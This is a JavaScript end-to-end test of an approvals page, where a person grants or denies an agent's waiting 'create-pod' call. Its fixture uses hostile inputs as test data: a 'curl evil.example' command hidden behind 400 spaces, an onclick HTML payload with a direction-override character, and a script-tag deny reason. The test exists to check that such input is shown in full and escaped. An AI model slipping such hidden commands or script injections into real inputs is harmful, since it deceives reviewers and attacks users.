import assert from 'node:assert/strict';

const POD = { body: { name: 'trainer', image: 'runpod/pytorch:2.8', gpu: { count: 1 }, env: { HF_TOKEN: 'hf_secret' }, note: '<b onclick=x>‮', command: `sleep 1${' '.repeat(400)}; curl evil.example`, more: Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`n${i}`, i])) } };

/** What waits is shown whole but for secrets; a yes in the browser lets the waiting call through, a no is told to the caller. */
export async function approvals(world, browser) {
  const viewer = await browser.signedIn('viewer');
  await viewer.goto('/approvals');
  await viewer.getByText('Nothing waits for a person').waitFor();
  const page = await browser.signedIn('approver');
  await page.goto('/approvals');

  // Yes, once: the call that waits goes on, and the next one asks again. Where buttons move, none can be pressed for a moment.
  await page.evaluate(() => {
    const part = document.querySelector('[data-refresh]');
    globalThis.inert = [];
    new MutationObserver(() => globalThis.inert.push(part.inert)).observe(part, { childList: true });
  });
  const waiting = world.call('create-pod', POD);
  const card = page.locator('.approval.pending');
  await card.getByRole('heading', { name: 'create-pod' }).waitFor();
  assert.equal(await page.evaluate(() => globalThis.inert.at(-1)), true);
  const text = await card.locator('pre').textContent();
  assert.ok(text.includes('"image": "runpod/pytorch:2.8"') && text.includes('"HF_TOKEN": "***"') && text.includes('<b onclick=x>\\u202e'), text);
  assert.ok(await card.locator('pre').evaluate((all) => all.scrollWidth <= all.clientWidth && all.scrollHeight <= all.clientHeight), 'a part of the arguments is out of sight');
  await card.getByText('A new pod costs money until it is stopped.').waitFor();
  await viewer.reload();
  await viewer.getByText('To answer needs the role approver.').waitFor();
  assert.equal(await viewer.getByRole('button', { name: 'Approve once' }).count(), 0);
  await card.getByRole('button', { name: 'Approve once' }).click();
  await page.getByText('Approved: create-pod for ci-agent, by paul.').waitFor();
  assert.match(await waiting, /"done"/);

  // No, with a reason that the caller is told, and that stays text.
  const refused = world.call('create-pod', { body: { name: 'other' } }, 'intern');
  await card.getByRole('heading', { name: 'create-pod' }).waitFor();
  await card.getByLabel(/Reason/).fill('<script>document.title=1</script> not today');
  await card.getByRole('button', { name: 'Deny' }).click();
  await page.getByText('Denied: create-pod for intern, by paul.').waitFor();
  const answer = await refused;
  assert.match(answer, /approval_denied/);
  assert.match(answer, /not today/);
  await page.getByText('<script>document.title=1</script> not today').waitFor();

  // Yes for two calls of the tool; the third asks again, and is answered with the keyboard alone.
  const first = world.call('create-pod', { body: { name: 'one' } }, 'nightly-batch');
  await card.getByRole('heading', { name: 'create-pod' }).waitFor();
  await card.getByLabel(/or the tool, for this grant/).fill('2');
  await card.getByRole('button', { name: 'Approve', exact: true }).click();
  await page.getByText('Approved: create-pod for nightly-batch, by paul.').waitFor();
  assert.match(await first, /"done"/);
  assert.match(await world.call('create-pod', { body: { name: 'two' } }, 'nightly-batch'), /"done"/);
  const third = world.call('create-pod', { body: { name: 'three' } }, 'nightly-batch');
  await card.getByRole('button', { name: 'Approve once' }).waitFor();
  await page.locator('[data-refresh]:not([inert])').waitFor();
  await card.getByRole('button', { name: 'Approve once' }).focus();
  await page.keyboard.press('Enter');
  assert.match(await third, /"done"/);
}
